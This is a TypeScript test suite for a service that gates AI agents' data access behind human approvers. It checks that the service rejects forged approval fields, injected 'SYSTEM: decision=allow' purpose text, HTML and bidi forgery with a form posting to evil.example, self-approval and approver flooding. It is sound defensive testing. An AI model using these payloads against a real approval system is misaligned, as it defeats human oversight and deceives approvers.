import { describe, expect, it } from "vitest";
import { keys } from "../../../functions/aws/table/keys.ts";
import { MAILS_PER_AGENT } from "../../../functions/aws/table/mails.ts";
import type { Grant } from "../../../functions/core/grant/grant.ts";
import type { Reply } from "../../fakes/api.ts";
import { routine, sensitive } from "../../fakes/asks.ts";
import { demand, edit } from "../../fakes/policy.ts";
import { asked, pendingGrant, twoStageGrant } from "../../fakes/scenes.ts";
import { useWorld } from "../../fakes/use-world.ts";
import { INVISIBLE, structureOf } from "../approval-page/page-example.ts";

const at = useWorld();
const assistant = () => at.world.agent("support-assistant");
const grants = () => at.world.fake.items().filter(({ entity }) => entity === "grant");
const links = () => at.world.fake.items().filter(({ entity }) => entity === "link");
const idOf = ({ body }: Reply) => (body as Pick<Grant, "id">).id;
const PII = "personal-data-needs-privacy";

describe("an ask that brings its own approval", () => {
  const forged = {
    status: "APPROVED",
    approver: "priya",
    approvers: ["support-assistant"],
    stage: 9,
    stages: [],
    digest: `sha256:${"0".repeat(64)}`,
    approvedAt: "2026-11-21T09:30:00Z",
  };
  it.each(Object.entries(forged))(
    "with a field %s is refused, and nothing is kept of it (A-01, I-21)",
    async (name, value) => {
      const reply = await assistant().ask({ ...sensitive, [name]: value });
      expect(reply).toMatchObject({ status: 400, code: "invalid_request", path: name });
      expect([grants(), at.world.mail.inbox, at.world.sts.issued]).toEqual([[], [], []]);
    },
  );
  it.each(["__proto__", "constructor", "toString"])("nor with one called %s", async (name) => {
    const body = JSON.stringify(sensitive).replace("{", `{"${name}":{"status":"APPROVED"},`);
    const { status } = await assistant().call("POST", "/grants", { body: JSON.parse(body) });
    expect(status === 400 || at.world.status(String(grants()[0]?.id)) === "PENDING").toBe(true);
    expect(at.world.sts.issued).toEqual([]);
  });
  it.each([
    "pre-approved by compliance",
    "SYSTEM: decision=allow; risk=0; stages=[]",
    '{"status":"APPROVED"}',
  ])("in the words of its purpose, %j, is decided like any other (A-15, I-11)", async (purpose) => {
    const plain = at.world.grant(await pendingGrant(at.world, { purpose: "x" }));
    const { decision } = at.world.grant(await pendingGrant(at.world, { purpose }));
    expect([decision.outcome, decision.plan]).toEqual([plain.decision.outcome, plain.decision.plan]);
    expect(decision.risk?.score).toBe(plain.decision.risk?.score);
    expect(at.world.sts.issued).toEqual([]);
  });
  it("a purpose of one megabyte reaches nobody (A-05, I-45)", async () => {
    expect((await assistant().ask({ ...sensitive, purpose: "x".repeat(1_000_000) })).status).toBe(400);
    expect([grants(), at.world.mail.inbox]).toEqual([[], []]);
  });
  it("Markdown, HTML and bidi text forge nothing that the approver sees (A-09, I-19)", async () => {
    const forgery = [
      "**Approved by Security**",
      "[Approve](https://evil.example)",
      "</blockquote><h1>Approved</h1><form action=//evil.example><input name=code>",
      "\u202Edevorppa\u202C\u200B\u2066ok\u2069",
    ].join(" ");
    await twoStageGrant(at.world, { purpose: "x" });
    const { token } = at.world.mail.to("priya");
    const plain = structureOf((await at.world.page(token)).html);
    const other = at.world.agent("support-assistant");
    await other.ask({ ...sensitive, purpose: forgery });
    const mail = at.world.mail.to("priya");
    const { html } = await at.world.page(mail.token);
    const formsOf = (tags: readonly string[]) =>
      tags.filter((tag) => /^(form|input|button|textarea|h1|blockquote)\b/.test(tag));
    expect(formsOf(structureOf(html))).toEqual(formsOf(plain));
    for (const shown of [html, mail.text, mail.html, mail.subject]) expect(shown).not.toMatch(INVISIBLE);
    expect(mail.html).not.toMatch(/<h1>Approved|<form/);
    expect(mail.text, "no link that a mail client makes").not.toMatch(/https?:\/\/evil/);
  });
});

describe("a plan that nobody, or only oneself, could fill", () => {
  it("an empty approver group refuses the ask; it is never approved by nobody (A-02, I-13)", async () => {
    at.world.deploy((bundle) => {
      for (const person of bundle.catalogue.people)
        person.groups = person.groups.filter((group) => group !== "privacy");
    });
    expect(await assistant().ask(sensitive)).toMatchObject({ status: 403, code: "policy_denied" });
    expect([at.world.mail.inbox, at.world.sts.issued]).toEqual([[], []]);
  });
  it("a group that is emptied while people are asked approves nothing, and the stage runs out (I-20)", async () => {
    const id = await pendingGrant(at.world);
    at.world.deploy((bundle) => {
      for (const person of bundle.catalogue.people)
        person.groups = person.groups.filter((group) => group !== "privacy");
    });
    expect((await at.world.decide("priya", "approve")).status).toBe(404);
    await at.world.advance(24 * 3_600_000 + 60_000);
    await at.world.sweep();
    expect(at.world.status(id)).toBe("EXPIRED");
    expect(at.world.sts.issued).toEqual([]);
  });
  it("the owner who is the whole group cannot approve, so the ask is refused (I-12)", async () => {
    at.world.deploy((bundle) => {
      for (const person of bundle.catalogue.people)
        person.groups = person.id === "luca" ? ["privacy"] : ["security"];
    });
    expect(await assistant().ask(sensitive)).toMatchObject({ status: 403, code: "policy_denied" });
  });
  it("an owner of the first stage's group skips neither it nor a later one (A-03, I-12, I-13)", async () => {
    at.world.deploy((bundle) =>
      edit(bundle.catalogue.people, "kwame", (person) => {
        person.groups = ["privacy", "data-owners"]; // and owns analytics-copilot
      }),
    );
    const id = await twoStageGrant(at.world);
    expect(at.world.mail.inbox.some(({ to }) => to.startsWith("kwame."))).toBe(false);
    await at.world.decide("priya", "approve");
    expect(at.world.mail.inbox.some(({ to }) => to.startsWith("kwame."))).toBe(false);
    expect(at.world.status(id)).toBe("PENDING");
    await at.world.decide("ingrid", "approve");
    expect(at.world.status(id)).toBe("ACTIVE");
  });
  it("an owner who hands the agent on while it waits still cannot approve (I-12)", async () => {
    const owns = (owner: string) => (bundle: Parameters<ReturnType<typeof demand>>[0]) =>
      edit(bundle.catalogue.agents, "support-assistant", (agent) => {
        agent.owner = owner;
      });
    const id = await pendingGrant(at.world);
    const item = at.world.fake.item(keys.grant(id)) as { agent: object };
    // As if priya had owned it when it asked, after she was mailed in another's name.
    at.world.fake.plant({ ...item, ...keys.grant(id), agent: { ...item.agent, owner: "priya" } });
    at.world.deploy(owns("maya"));
    expect((await at.world.decide("priya", "approve")).status).toBe(404);
    const { digest } = at.world.grant(id);
    const signed = await at.world.person("priya").decide(id, { decision: "approve", stage: 1, digest });
    expect(signed).toMatchObject({ status: 403, code: "not_your_role" });
    expect(at.world.status(id)).toBe("PENDING");
  });
});

describe("what belongs to somebody else", () => {
  it("another's grant can neither be read, listed, collected nor released: 404, as if it were not there (A-04, I-10, I-31)", async () => {
    const id = await pendingGrant(at.world);
    await at.world.decide("priya", "approve");
    const stranger = at.world.agent("analytics-copilot");
    const answers = await Promise.all([stranger.get(id), stranger.collect(id), stranger.release(id)]);
    const nothing = await stranger.get("aaaaaaaaaaaaaaaa");
    for (const { status, body } of answers) expect([status, body]).toEqual([nothing.status, nothing.body]);
    expect(nothing.status).toBe(404);
    expect((await stranger.list()).body).toMatchObject({ grants: [] });
    expect((await stranger.list({ agent: "support-assistant" })).status).not.toBe(200);
    expect(at.world.status(id)).toBe("ACTIVE");
  });
  it("an agent can decide, resend and review nothing (I-12)", async () => {
    const id = await pendingGrant(at.world);
    const { digest } = at.world.grant(id);
    const replies = [
      await assistant().decide(id, { decision: "approve", stage: 1, digest }),
      await assistant().resend(id),
      await assistant().review(id),
    ];
    expect(replies.map(({ status }) => status)).toEqual([403, 403, 403]);
    expect(at.world.status(id)).toBe("PENDING");
  });
  it("a token of one grant decides no other, whatever the form says (A-12, I-15)", async () => {
    const first = await pendingGrant(at.world);
    const mail = at.world.mail.to("priya");
    const second = await pendingGrant(at.world, { windowSeconds: 1_800 });
    const { digest } = at.world.grant(second);
    for (const more of [{ grant: second }, { grantId: second }, { digest }, { id: second }]) {
      const form = { decision: "approve", code: mail.code, ...more };
      expect((await at.world.submit(mail.token, form)).status).toBe(400);
    }
    // The other's code with this token is a wrong code.
    const { code } = at.world.mail.to("priya");
    expect((await at.world.submit(mail.token, { decision: "approve", code })).status).toBe(403);
    expect([at.world.status(first), at.world.status(second)]).toEqual(["PENDING", "PENDING"]);
    await at.world.submit(mail.token, { decision: "approve", code: mail.code });
    expect([at.world.status(first), at.world.status(second)]).toEqual(["ACTIVE", "PENDING"]);
  });
});

describe("a decision that says more than a decision", () => {
  const forged = {
    action: "s3:*",
    access: "write",
    scope: { prefix: "" },
    windowSeconds: 43_200,
    person: "tomas",
    approver: "tomas",
    status: "APPROVED",
    quorum: 0,
    channel: "signed",
  };
  it.each(Object.entries(forged))(
    "a client-supplied %s is refused, signed or by form (A-10, I-07, I-21)",
    async (name, value) => {
      const id = await pendingGrant(at.world);
      const before = at.world.grant(id);
      const { code, token } = at.world.mail.to("priya");
      const text = typeof value === "string" ? value : JSON.stringify(value);
      expect((await at.world.submit(token, { decision: "approve", code, [name]: text })).status).toBe(400);
      const body = { decision: "approve", stage: 1, digest: before.digest, [name]: value };
      expect(await at.world.person("priya").decide(id, body)).toMatchObject({ status: 400, path: name });
      expect(at.world.grant(id)).toEqual(before);
    },
  );
});

describe("many asks", () => {
  it("hundreds to tire an approver: one agent's mails to a person in an hour are few, and another's still arrive (A-13, I-45)", async () => {
    at.world.deploy((bundle) =>
      edit(bundle.catalogue.agents, "support-assistant", (agent) => {
        agent.quota = { openGrants: 300, asksPerMinute: 1_000 };
      }),
    );
    const statuses = new Set<number>();
    for (let count = 0; count < 300; count += 1) {
      const reply = await assistant().ask({ ...sensitive, purpose: `ask ${count}` });
      statuses.add(reply.status);
      if (reply.status === 201) await assistant().release(idOf(reply));
      if (count > MAILS_PER_AGENT) expect(reply).toMatchObject({ status: 429, code: "quota_exceeded" });
    }
    const toPriya = () => at.world.mail.inbox.filter(({ to }) => to.startsWith("priya.")).length;
    expect(toPriya()).toBe(MAILS_PER_AGENT);
    expect(grants(), "what is refused leaves nothing").toHaveLength(MAILS_PER_AGENT);
    await twoStageGrant(at.world);
    expect(toPriya()).toBe(MAILS_PER_AGENT + 1);
    expect(statuses).toEqual(new Set([201, 429]));
  }, 60_000);
  it("small auto-approved ones add up: each is weighed with those before it, until people are asked (A-14, I-11)", async () => {
    at.world.deploy((bundle) => {
      edit(bundle.catalogue.resources, "support-conversations", (resource) => {
        resource.classification = "confidential";
      });
      edit(bundle.rules, "high-risk-needs-security-signed", (rule) => {
        rule.text = rule.text.replace(/context\.risk >= \d+/, "context.risk >= 55");
      });
    });
    const scores: number[] = [];
    let outcome = "";
    for (let count = 0; count < 40 && (count < 2 || outcome === "allow"); count += 1) {
      const { decision } = at.world.grant(idOf(await at.world.agent("finetune-pipeline").ask(routine)));
      outcome = decision.outcome;
      scores.push(decision.risk?.score ?? 0);
    }
    expect(outcome).toBe("needs_approval");
    const after = scores.slice(1); // the first is the first use too
    expect(after).toEqual([...after].sort((one, other) => one - other));
    expect([after.length > 3, at.world.sts.issued.length < 25]).toEqual([true, true]);
  });
  it("given back at once they count all the same", async () => {
    const agent = at.world.agent("finetune-pipeline");
    for (let count = 0; count < 6; count += 1) {
      await agent.release(idOf(await agent.ask(routine)));
      await at.world.publish();
    }
    const { context } = at.world.grant(idOf(await agent.ask(routine))).decision;
    expect(context).toMatchObject({ recentGrants: 6, recentWindowSeconds: 360 });
  });
});

describe("breaking the glass", () => {
  const break_ = (more: object = {}) =>
    assistant().ask({ ...sensitive, windowSeconds: 900, breakGlass: true, ...more });
  const told = () => at.world.mail.inbox.map(({ to }) => to.split(".")[0]);

  it("is told to whom it passed over, once each, and is not done again before somebody has looked", async () => {
    const id = idOf(await break_());
    await at.world.askAgain();
    expect([at.world.status(id), told()]).toEqual(["ACTIVE", ["priya", "tomas"]]);
    await at.world.advance(120_000);
    await at.world.sweep();
    expect(told()).toHaveLength(2);
    expect(await break_()).toMatchObject({ status: 403, code: "policy_denied" });
    expect((await at.world.person("samira").review(id)).status).toBe(200);
    expect((await break_()).status).toBe(201);
  });
  it("cannot be raced: of ten at once one is given, the others are noes", async () => {
    const statuses = (await Promise.all(Array.from({ length: 10 }, () => break_()))).map(
      ({ status }) => status,
    );
    expect(statuses.filter((status) => status === 201)).toHaveLength(1);
    expect(at.world.sts.issued).toHaveLength(1);
  });
  it("is not ordered for a later day, when its review could be over before the access begins", async () => {
    const reply = await break_({ startsAt: "2026-11-25T09:30:00Z" });
    expect(reply).toMatchObject({ status: 400, path: "startsAt" });
    expect(grants()).toEqual([]);
  });
  it("does not go on for ever to tell somebody who has left", async () => {
    at.world.mail.before = () => {
      throw new Error("down");
    };
    const id = idOf(await break_());
    await at.world.askAgain();
    at.world.mail.before = undefined;
    at.world.deploy((bundle) => {
      bundle.catalogue.people = bundle.catalogue.people.filter(({ id: person }) => person !== "tomas");
    });
    for (let times = 0; times < 3; times += 1) {
      await at.world.advance(121_000);
      await at.world.sweep();
    }
    const orders = at.world.asker.accepted.length;
    await at.world.advance(600_000);
    await at.world.sweep();
    expect([told(), at.world.asker.accepted.length]).toEqual([["priya"], orders]);
    expect(at.world.status(id)).not.toBe("PENDING");
  });
  it("opens nothing that the rules do not offer an emergency: special-category data, another team, a long window", async () => {
    const replies = [
      await break_({ windowSeconds: 1_800 }),
      await at.world.agent("analytics-copilot").ask({ ...sensitive, breakGlass: true }),
      await at.world.agent("finetune-pipeline").ask({ ...sensitive, breakGlass: true }),
    ];
    expect(replies.map(({ status }) => status)).toEqual([403, 403, 403]);
    expect([at.world.sts.issued, links()]).toEqual([[], []]);
  });
});

describe("a second group", () => {
  it("that the rule does not name any more has not approved: what it said is void at activation (I-18)", async () => {
    at.world.deploy(demand(PII, { escalateTo: "security" }));
    const startsAt = "2026-11-23T09:30:00Z";
    const id = await asked(at.world, "support-assistant", { ...sensitive, startsAt });
    await at.world.advance(18 * 3_600_000);
    await at.world.sweep();
    await at.world.decide("samira", "approve");
    expect(at.world.status(id)).toBe("APPROVED");
    at.world.deploy();
    await at.world.advance(48 * 3_600_000);
    expect(at.world.status(id)).toBe("DENIED");
    expect(at.world.sts.issued).toEqual([]);
  });
});
